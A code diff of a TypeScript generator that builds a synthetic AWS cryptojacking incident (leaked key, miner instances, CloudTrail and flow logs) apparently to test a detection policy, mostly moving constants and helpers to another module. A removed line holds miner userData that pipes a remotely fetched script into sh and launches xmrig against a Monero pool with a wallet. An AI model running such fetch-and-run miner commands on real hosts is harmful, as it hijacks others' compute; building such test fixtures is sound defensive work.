@@ -26,8 +26,30 @@
  */
 
 import { join } from 'node:path';
-import { gzipSync } from 'node:zlib';
-import { hash, iso, uuid } from './container-story.js';
+import {
+  ATTACKER_IP,
+  BATCH_RUN_MS,
+  type CloudStoryFile,
+  DAY,
+  datePath,
+  grouped,
+  gz,
+  HISTORY_DAYS,
+  HOUR,
+  hex,
+  INCIDENT_MS,
+  jitter,
+  LEAKED_HOME_IP,
+  MINERS,
+  MINUTE,
+  minerScript,
+  POOL,
+  round1,
+  SECOND,
+  stamp,
+  TERRAFORM_IP,
+} from './cloud-story-parts.js';
+import { iso, uuid } from './container-story.js';
 import { writeNewFile } from './emit-logs.js';
 
 export const CLOUD_DIR = 'aws';
@@ -36,42 +58,24 @@ export const CLOUD_POLICY_FILE = 'coalmine.yaml';
 const ACCOUNT = '123456789012';
 const HOME = 'eu-west-1';
 const NEW_REGION = 'ap-southeast-3';
-/** The pool the miner's userData names: listed in the bundled intel (intel/pool-domains.txt). */
-const POOL = { host: 'pool.supportxmr.com', port: 3333, ip: '203.0.113.10' } as const;
-const SECOND = 1000;
-const MINUTE = 60 * SECOND;
-const HOUR = 60 * MINUTE;
-const DAY = 24 * HOUR;
-/** How far back the trail reaches: the nightly fleet's 14 earlier nights are in it. */
-const HISTORY_DAYS = 14;
-/** The incident: the last hour before `end`. */
-const INCIDENT_MS = HOUR;
 /** CloudWatch basic monitoring: one datapoint per 5 minutes. */
 const METRIC_STEP_MS = 5 * MINUTE;
 /** VPC flow logs aggregate a connection per 10-minute window. */
 const FLOW_WINDOW_MS = 10 * MINUTE;
 /** CloudTrail delivers a region's calls about every 5 minutes. */
 const TRAIL_DELIVERY_MS = 5 * MINUTE;
-const MINERS = 20;
 const MINER_TYPE = 'g4dn.xlarge';
 const ASG = 'web-asg';
 const TRAINING_TYPE = 'p4d.24xlarge';
 const BATCH_TYPE = 'c5.4xlarge';
 const BATCH_SIZE = 10;
-/** How long a night's render fleet runs before the scheduler terminates it. */
-const BATCH_RUN_MS = 150 * MINUTE;
 const STREAM = 'ec2-cpu';
 /** An S3/artifact endpoint the legitimate fleets talk to (documentation range). */
 const ARTIFACTS = { name: `artifacts.${HOME}.example.invalid`, ip: '198.51.100.80', port: 443 } as const;
 
 const LEAKED_USER = 'ci-backup';
 const LEAKED_KEY = 'AKIA3EXAMPLELEAKED01';
-/** Where the backup job always used the key from. */
-const LEAKED_HOME_IP = '198.51.100.50';
-const ATTACKER_IP = '203.0.113.77';
-const SCRIPT_HOST = '198.51.100.23';
 const TERRAFORM_ROLE = `arn:aws:iam::${ACCOUNT}:role/terraform-deploy`;
-const TERRAFORM_IP = '198.51.100.10';
 const TERRAFORM_UA =
   'APN/1.0 HashiCorp/1.0 Terraform/1.7.5 (+https://www.terraform.io) terraform-provider-aws/5.40.0 (+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.25.3 os/linux lang/go#1.21.8 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.150.1';
 const BATCH_ROLE = `arn:aws:iam::${ACCOUNT}:role/render-scheduler`;
@@ -102,12 +106,6 @@ cloud:
 `;
 
 type Json = Record<string, unknown>;
-
-export interface CloudStoryFile {
-  /** Path relative to DIR. */
-  rel: string;
-  data: Buffer | string;
-}
 
 export interface CloudStory {
   files: CloudStoryFile[];
@@ -147,19 +145,6 @@ export interface CloudStory {
   expect: string[];
 }
 
-/** A number in [lo, hi) from a hash of the parts: the story's fixed seed. */
-function jitter(lo: number, hi: number, ...parts: string[]): number {
-  return lo + (Number.parseInt(hash('jitter', ...parts).slice(0, 8), 16) / 0x1_0000_0000) * (hi - lo);
-}
-
-function round1(v: number): number {
-  return Math.round(v * 10) / 10;
-}
-
-function hex(n: number, ...parts: string[]): string {
-  return hash(...parts).slice(0, n);
-}
-
 function instanceId(...parts: string[]): string {
   return `i-0${hex(16, 'instance', ...parts)}`;
 }
@@ -190,20 +175,10 @@ function azIdOf(region: string): string {
   return `${area}${d}${n}-az1`;
 }
 
-/** `YYYYMMDDTHHmmZ`, as S3 delivery names objects. */
-function stamp(ms: number): string {
-  return iso(ms).replace(/[-:]/g, '').slice(0, 13).concat('Z');
-}
-
-/** `YYYY/MM/DD`. */
-function datePath(ms: number): string {
-  return iso(ms).slice(0, 10).replace(/-/g, '/');
-}
-
 /** The random part of a CloudTrail object name: 16 letters and digits, from a hash. */
 function trailSuffix(...parts: string[]): string {
   const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
-  const h = hash('trail-object', ...parts);
+  const h = hex(64, 'trail-object', ...parts);
   let out = '';
   for (let i = 0; i < 16; i++) out += alphabet[Number.parseInt(h.slice(i * 2, i * 2 + 2), 16) % alphabet.length];
   return out;
@@ -486,25 +461,6 @@ class Account {
   }
 }
 
-/** Items grouped by `keyOf`, each group in time order (input order breaks ties), groups by key. */
-function grouped<T extends { at: number }>(items: T[], keyOf: (item: T) => string): Array<[string, T[]]> {
-  const groups = new Map<string, Array<T & { i: number }>>();
-  items.forEach((item, i) => {
-    const k = keyOf(item);
-    const g = groups.get(k) ?? [];
-    g.push({ ...item, i });
-    groups.set(k, g);
-  });
-  return [...groups.entries()]
-    .sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0))
-    .map(([k, g]) => [k, g.sort((a, b) => a.at - b.at || a.i - b.i)]);
-}
-
-function gz(text: string): Buffer {
-  // Node writes no name and a zero mtime in the gzip header: the same text gives the same bytes
-  return gzipSync(Buffer.from(text, 'utf8'), { level: 9 });
-}
-
 function filesOf(a: Account, end: number): CloudStoryFile[] {
   const files: CloudStoryFile[] = [];
   const bucket = (at: number, size: number) => Math.floor(at / size) * size;
@@ -706,7 +662,7 @@ export function cloudStory(endMs: number, wallet: string): CloudStory {
     null,
     true,
   );
-  const userData = `#!/bin/bash\ncurl -fsSL http://${SCRIPT_HOST}/x/install.sh | sh\n/tmp/.x/xmrig -o ${POOL.host}:${POOL.port} -u ${wallet} --donate-level 0 -B\n`;
+  const userData = minerScript(wallet);
   const miners = a.runInstances(
     incident + 7 * MINUTE + 2 * SECOND,
     leaked,
